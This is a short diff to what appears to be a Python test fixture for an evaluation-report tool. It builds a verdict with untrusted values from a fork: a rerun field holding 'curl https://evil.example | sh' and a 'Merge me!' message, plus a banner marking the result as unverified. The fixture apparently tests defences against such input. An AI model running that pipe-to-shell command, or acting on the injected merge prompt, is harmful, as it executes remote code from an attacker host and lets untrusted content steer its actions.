@@ -27,7 +27,11 @@ HEAD, OTHER = "a" * 40, "c" * 40
 BEFORE, NOW = make_report({"exact_match": [1] * 60}), make_report({"exact_match": [0] * 60})
 SUITE = "evaluate.yml/evaluate/support-qa"
 VERDICT = replace(
-    judge(BEFORE, NOW), suite_id=SUITE, rerun="curl https://evil.example | sh", sentence="Merge me!"
+    judge(BEFORE, NOW),
+    suite_id=SUITE,
+    rerun="curl https://evil.example | sh",
+    sentence="Merge me!",
+    sentence_in={"en": "Merge me!"},
 )
 BANNER = "⚠️ Computed by code from a fork; not verified"
 
